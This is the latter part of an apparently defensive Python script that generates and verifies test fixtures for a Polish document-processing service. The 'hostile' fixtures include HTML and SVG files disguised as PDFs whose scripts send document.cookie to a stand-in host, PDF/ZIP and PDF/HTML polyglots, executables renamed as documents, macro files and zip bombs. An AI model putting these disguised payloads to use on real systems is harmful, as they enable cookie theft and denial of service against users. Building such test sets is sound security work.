        '<!DOCTYPE html>\n<html lang="pl">\n<head><meta charset="utf-8"><title>Regulamin.pdf</title></head>\n'
        '<body>\n<h1>Trwa ładowanie dokumentu…</h1>\n'
        "<script>fetch('http://example.invalid/steal?c=' + encodeURIComponent(document.cookie));</script>\n"
        "</body>\n</html>\n").encode())
    write(H("image.svg-as.pdf"), (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(document.domain)">\n'
        '  <script>fetch("http://example.invalid/steal?c=" + document.cookie);</script>\n'
        '  <text x="10" y="50">Plan zagospodarowania</text>\n</svg>\n').encode())
    write(H("program.exe-as.pdf"), minimal_pe())
    write(H("program.elf-as.docx"), minimal_elf())
    # PDF + ZIP appended (ZIP offsets absolute, small enough that %%EOF stays in the last 1 kB)
    shutil.copy(L("godziny.pdf"), H("polyglot-pdf-zip.pdf"))
    with zipfile.ZipFile(H("polyglot-pdf-zip.pdf"), "a") as z:
        z.writestr(zinfo("index.html"), b"<html><body><script>alert(1)</script></body></html>\n")
    # PDF with HTML in a comment inside the first kilobyte
    with pikepdf.open(L("godziny.pdf")) as pdf:
        b = io.BytesIO()
        pdf.save(b, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    write(H("polyglot-pdf-html.pdf"),
          shift_pdf_insert(b.getvalue(), 1, b"%<html><body><script>alert(document.domain)</script></body></html>\n"))
    from PIL import Image
    im = Image.new("RGB", (160, 120))
    im.putdata([(x * 255 // 160, y * 255 // 120, 120) for y in range(120) for x in range(160)])
    jb = io.BytesIO()
    im.save(jb, "JPEG", quality=85)
    write(H("jpeg-as.pdf"), jb.getvalue())
    write(H("odt-wrong-mimetype.odt"),
          rewrite_zip(open(L("rozklad.odt"), "rb").read(), first=("mimetype", b"text/html")))
    zdir = os.path.join(tmp, "zipcrypto")
    os.makedirs(zdir)
    write(os.path.join(zdir, "lista-plac.txt"), "Zestawienie wynagrodzeń – dokument poufny.\n".encode())
    os.utime(os.path.join(zdir, "lista-plac.txt"), (1715679000, 1715679000))
    run(["zip", "-q", "-X", "-e", "-P", "secret", H("encrypted.zip"), "lista-plac.txt"], cwd=zdir)
    from msoffcrypto.format.ooxml import OOXMLFile
    plain = os.path.join(tmp, "plain.docx")
    make_docx_base(["Zestawienie wynagrodzeń pracowników urzędu za wrzesień. Dokument chroniony hasłem."],
                   "Zestawienie wynagrodzeń").save(plain)
    with open(plain, "rb") as f, open(H("encrypted.docx"), "wb") as o:
        OOXMLFile(f).encrypt("secret", o)
    write(H("empty.pdf"), b"")
    write(H("text-with-nul.txt"),
          "Protokół z zebrania – wersja robocza\n".encode() + b"\x00\x00\x00\x01\x02\x03\x1b[31m\x07\x08"
          + "Zażółć gęślą jaźń\x00\x00".encode() + b"\x7f\x0b\x0c\x0e\x1f" + random.Random(3).randbytes(512)
          + b"\x00" * 64 + "koniec\n".encode())


# ------------------------------------------------------------------------- verify

def sh(cmd):
    return subprocess.run(cmd, capture_output=True)


def xml_text(data):
    import html
    return html.unescape(re.sub(rb"<[^>]+>", b" ", data).decode("utf-8", "replace"))


def rtf_text(data):
    s = data.decode("latin-1")
    m = re.search(r"\\ansicpg(\d+)", s)
    cp = "cp" + (m.group(1) if m else "1252")
    out = []
    i = 0
    skip = 0
    while i < len(s):
        if s.startswith("\\'", i):
            if skip:
                skip -= 1
            else:
                out.append(bytes([int(s[i + 2:i + 4], 16)]).decode(cp, "replace"))
            i += 4
            continue
        m = re.match(r"\\u(-?\d+)\s?", s[i:])
        if m:
            out.append(chr(int(m.group(1)) % 65536))
            skip = 1
            i += m.end()
            continue
        m = re.match(r"\\[a-zA-Z]+-?\d*\s?", s[i:])
        if m:
            i += m.end()
            continue
        if s[i] in "{}":
            i += 1
            continue
        if skip and s[i] not in "\r\n":
            skip -= 1
            i += 1
            continue
        out.append(s[i])
        i += 1
    return "".join(out)


def text_of(path):
    """Best-effort text of any fixture, for the marker-uniqueness check."""
    rel = path
    data = open(path, "rb").read()
    if not data or "bomb" in rel:
        return ""
    if data.startswith(b"%PDF"):
        r = sh(["pdftotext", "-q", path, "-"])
        return r.stdout.decode("utf-8", "replace") + data.decode("latin-1")
    if data.startswith(b"PK"):
        out = []
        try:
            with zipfile.ZipFile(path) as z:
                for n in z.namelist():
                    try:
                        b = z.read(n)
                    except Exception:
                        continue
                    out.append(b.decode("utf-8", "replace") if n.endswith(".txt") else xml_text(b))
        except Exception:
            pass
        return " ".join(out)
    if data.startswith(b"{\\rtf"):
        return rtf_text(data)
    if path.endswith("cp1250.txt"):
        return data.decode("cp1250")
    return data.decode("utf-8", "replace")


def verify(out):
    problems = []

    def check(cond, msg):
        print(("ok   " if cond else "FAIL ") + msg)
        if not cond:
            problems.append(msg)

    P = lambda r: os.path.join(out, r)  # noqa: E731
    files = sorted(os.path.relpath(p, out) for p in glob.glob(os.path.join(out, "*", "*")))
    texts = {f: text_of(P(f)).casefold() for f in files}

    # markers: in their own file, in no other
    for f, (word, stem) in MARKERS.items():
        check(word.casefold() in texts[f], f"{f}: marker {word!r} extracted")
        others = [g for g in files if g != f and stem.casefold() in texts[g]]
        check(not others, f"{f}: stem {stem!r} in no other file {others if others else ''}")

    def pdfinfo(p):
        r = sh(["pdfinfo", p])
        return dict(line.split(":", 1) for line in r.stdout.decode("utf-8", "replace").splitlines() if ":" in line), r.returncode

    info, _ = pdfinfo(P("real/regulamin-naboru.pdf"))
    check(info.get("Pages", "").strip() == "3", "regulamin: 3 pages")
    check(info.get("Author", "").strip() == "Jan Kowalski", "regulamin: Author Jan Kowalski")
    check("jan.kowalski" in info.get("Creator", ""), "regulamin: Creator has a personal path")
    fonts = sh(["pdffonts", P("real/regulamin-naboru.pdf")]).stdout.decode()
    check("DejaVu" in fonts and " yes yes yes" in fonts, "regulamin: embedded subset fonts with ToUnicode")
    core = zipfile.ZipFile(P("real/formularz-zgloszeniowy.docx")).read("docProps/core.xml").decode()
    check(re.search(r"<dc:creator[^>]*>Anna Nowak</dc:creator>", core) is not None, "docx: dc:creator Anna Nowak")
    check(re.search(r"<cp:lastModifiedBy[^>]*>Piotr Wiśniewski</cp:lastModifiedBy>", core) is not None, "docx: lastModifiedBy Piotr Wiśniewski")
    core = zipfile.ZipFile(P("real/wyniki-konkursu.xlsx")).read("docProps/core.xml").decode()
    check(re.search(r"<dc:creator[^>]*>Anna Nowak</dc:creator>", core) is not None, "xlsx: dc:creator Anna Nowak")
    import openpyxl
    ws = openpyxl.load_workbook(P("real/wyniki-konkursu.xlsx")).active
    vals = [c.value for row in ws.iter_rows() for c in row]
    check(any(isinstance(v, str) and "wyróżnienie" in v for v in vals) and any(isinstance(v, (int, float)) for v in vals),
          "xlsx: marker in a cell, numbers in others")
    check("wyróżnienie" in zipfile.ZipFile(P("real/wyniki-konkursu.xlsx")).read("xl/sharedStrings.xml").decode(),
          "xlsx: marker as plain UTF-8 in xl/sharedStrings.xml")
    from pptx import Presentation
    prs = Presentation(P("real/prezentacja-projektu.pptx"))
    slide_texts = [" ".join(sh_.text_frame.text for sh_ in s.shapes if sh_.has_text_frame) for s in prs.slides]
    check("rewitalizacja" in slide_texts[1] and "rewitalizacja" not in slide_texts[0] + slide_texts[2], "pptx: marker on slide 2")
    z = zipfile.ZipFile(P("real/uchwala-rady.odt"))
    check(z.read("mimetype") == b"application/vnd.oasis.opendocument.text", "odt: mimetype")
    check("<meta:initial-creator>Maria Zielińska</meta:initial-creator>" in z.read("meta.xml").decode(), "odt: initial-creator Maria Zielińska")
    check("subwencja" in xml_text(zipfile.ZipFile(P("real/budzet-gminy.ods")).read("content.xml")), "ods: marker in content.xml")
    check("dożynki" in xml_text(zipfile.ZipFile(P("real/harmonogram.odp")).read("content.xml")), "odp: marker in content.xml")
    rtf = open(P("real/notatka-sluzbowa.rtf"), "rb").read()
    check(rtf.startswith(b"{\\rtf1") and (b"\\'b3" in rtf or b"\\u322" in rtf), "rtf: Polish letters escaped (ł as \\'b3 or \\u322)")
    raw = open(P("real/komunikat-cp1250.txt"), "rb").read()
    check(not raw.startswith(b"\xef\xbb\xbf") and b"\xb3" in raw, "cp1250 txt: no BOM, ł as 0xB3")
    try:
        raw.decode("utf-8")
        check(False, "cp1250 txt: is not valid UTF-8")
    except UnicodeDecodeError:
        check(True, "cp1250 txt: is not valid UTF-8")
    check(open(P("real/lista-obecnosci.csv"), "rb").read().split(b"\r\n")[0] == "\ufeffLp.;Imię i nazwisko;Funkcja;Obecność;Podpis".encode(),
          "csv: UTF-8 BOM, ';' header")
    check(len(zipfile.ZipFile(P("real/materialy.zip")).namelist()) == 2, "materialy.zip: 2 entries")
    scan = sh(["pdftotext", P("real/skan-bez-tekstu.pdf"), "-"]).stdout.strip()
    info, rc = pdfinfo(P("real/skan-bez-tekstu.pdf"))
    check(rc == 0 and info.get("Pages", "").strip() == "1" and scan == b"", "scan: 1 page, no text")
    sig = open(P("real/podpisany.pdf"), "rb").read()
    check(b"/ByteRange" in sig and b"/Sig" in sig, "signed: /ByteRange and /Sig present")
    for n, pages in (("bench/strony-10.pdf", 10), ("bench/strony-200.pdf", 200)):
        info, _ = pdfinfo(P(n))
        t = sh(["pdftotext", P(n), "-"]).stdout.decode()
        per = len(t) / pages
        check(info.get("Pages", "").strip() == str(pages) and 2300 < per < 3000, f"{n}: {pages} pages, {per:.0f} chars/page")

    # hostile
    def inflated(path, name):
        with open(path, "rb") as f:
            d = f.read()
        with zipfile.ZipFile(path) as zz:
            zi = zz.getinfo(name)
        off = zi.header_offset
        nlen, xlen = struct.unpack_from("<HH", d, off + 26)
        start = off + 30 + nlen + xlen
        dec = zlib.decompressobj(-15)
        total = 0
        pos = start
        while not dec.eof and pos < len(d):
            total += len(dec.decompress(d[pos:pos + 4096]))  # <= ~4 MB out per step
            pos += 4096
        return total, zi

    n, zi = inflated(P("hostile/bomb-ratio.docx"), "word/document.xml")
    check(n > 190e6 and os.path.getsize(P("hostile/bomb-ratio.docx")) < 400e3, f"bomb-ratio.docx: document.xml inflates to {n / 1e6:.0f} MB")
    check(len(zipfile.ZipFile(P("hostile/bomb-entries.zip")).namelist()) == 20000, "bomb-entries.zip: 20000 entries")
    with zipfile.ZipFile(P("hostile/bomb-nested.zip")) as zz:
        l2 = zipfile.ZipFile(io.BytesIO(zz.read(zz.namelist()[0])))
        l3 = zipfile.ZipFile(io.BytesIO(l2.read(l2.namelist()[0])))
        total = l3.infolist()[0].file_size * len(l3.namelist()) * len(l2.namelist()) * len(zz.namelist())
        check(l3.namelist()[0].endswith(".bin"), f"bomb-nested.zip: 3 levels, {total / 1e9:.1f} GB in all")
    n, zi = inflated(P("hostile/bomb-declared-small.zip"), "dane.txt")
    check(zi.file_size == 100 and n > 100e6, f"bomb-declared-small.zip: declares {zi.file_size} B, inflates to {n / 1e6:.0f} MB")
    r = sh(["qpdf", "--check", P("hostile/encrypted.pdf")])
    check(r.returncode != 0 and b"invalid password" in (r.stderr + r.stdout), "encrypted.pdf: needs a password")
    r = sh(["qpdf", "--password=user", "--show-encryption", P("hostile/encrypted.pdf")])
    check(b"R = 6" in r.stdout, "encrypted.pdf: AES-256 (R 6), password 'user'")
    d = open(P("hostile/damaged.pdf"), "rb").read()
    check(d.startswith(b"%PDF") and b"startxref" not in d and b"%%EOF" not in d, "damaged.pdf: truncated, no xref")
    check(sh(["qpdf", "--check", P("hostile/damaged-garbage.pdf")]).returncode != 0, "damaged-garbage.pdf: qpdf refuses")
    check(b"/Count 100000000" in open(P("hostile/pages-count-lie.pdf"), "rb").read(), "pages-count-lie.pdf: /Count 100000000")
    r = sh(["qpdf", "--check", P("hostile/pages-cycle.pdf")])
    check(r.returncode != 0 or b"loop" in r.stdout + r.stderr, "pages-cycle.pdf: qpdf reports the page-tree loop")
    info, _ = pdfinfo(P("hostile/many-pages.pdf"))
    check(info.get("Pages", "").strip() == "5000", "many-pages.pdf: 5000 pages")
    rels = zipfile.ZipFile(P("hostile/external-reference.docx")).read("word/_rels/document.xml.rels").decode()
    check('TargetMode="External"' in rels and "example.invalid/x.png" in rels, "external-reference.docx: external image relationship")
    for name, part in (("macro.docm-as.docx", "word/vbaProject.bin"), ("macro.xlsm-as.xlsx", "xl/vbaProject.bin")):
        zz = zipfile.ZipFile(P("hostile/" + name))
        ct = zz.read("[Content_Types].xml").decode()
        check(part in zz.namelist() and "macroEnabled.main+xml" in ct, f"{name}: macro-enabled content type and {part}")
    check(open(P("hostile/page.html-as.pdf"), "rb").read().startswith(b"<!DOCTYPE html>"), "page.html-as.pdf: HTML")
    check(b"onload=" in open(P("hostile/image.svg-as.pdf"), "rb").read(), "image.svg-as.pdf: SVG with onload")
    pe = open(P("hostile/program.exe-as.pdf"), "rb").read()
    check(pe[:2] == b"MZ" and pe[struct.unpack_from("<I", pe, 0x3C)[0]:][:4] == b"PE\0\0", "program.exe-as.pdf: MZ + PE header")
    check(open(P("hostile/program.elf-as.docx"), "rb").read()[:4] == b"\x7fELF", "program.elf-as.docx: ELF")
    check(sh(["qpdf", "--check", P("hostile/polyglot-pdf-zip.pdf")]).returncode == 0
          and sh(["unzip", "-tq", P("hostile/polyglot-pdf-zip.pdf")]).returncode == 0, "polyglot-pdf-zip.pdf: qpdf and unzip both accept it")
    ph = open(P("hostile/polyglot-pdf-html.pdf"), "rb").read()
    check(b"<script>" in ph[:1024] and sh(["qpdf", "--check", P("hostile/polyglot-pdf-html.pdf")]).returncode == 0,
          "polyglot-pdf-html.pdf: <script> in first kB, qpdf --check clean")
    check(open(P("hostile/jpeg-as.pdf"), "rb").read()[:3] == b"\xff\xd8\xff", "jpeg-as.pdf: JPEG")
    zz = zipfile.ZipFile(P("hostile/odt-wrong-mimetype.odt"))
    check(zz.namelist()[0] == "mimetype" and zz.read("mimetype") == b"text/html", "odt-wrong-mimetype.odt: mimetype text/html")
    zz = zipfile.ZipFile(P("hostile/encrypted.zip"))
    check(all(i.flag_bits & 1 for i in zz.infolist()), "encrypted.zip: entry flagged encrypted (ZipCrypto)")
    check(open(P("hostile/encrypted.docx"), "rb").read()[:8] == b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "encrypted.docx: CFB container")
    check(os.path.getsize(P("hostile/empty.pdf")) == 0, "empty.pdf: 0 bytes")
    check(b"\x00" in open(P("hostile/text-with-nul.txt"), "rb").read(), "text-with-nul.txt: has NUL")

    total = sum(os.path.getsize(P(f)) for f in files)
    print(f"{len(files)} files, {total / 1024:.0f} kB")
    for f in files:
        if not f.startswith(("bench/", "hostile/bomb-entries")):
            check(os.path.getsize(P(f)) < 300 * 1024, f"{f}: under 300 kB")
    if problems:
        print(f"{len(problems)} problem(s)")
        sys.exit(1)
    print("all checks passed")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", default=DEFAULT_OUT)
    ap.add_argument("--verify", action="store_true", help="only verify")
    a = ap.parse_args()
    if not a.verify:
        generate(a.out)
    verify(a.out)


if __name__ == "__main__":
    main()
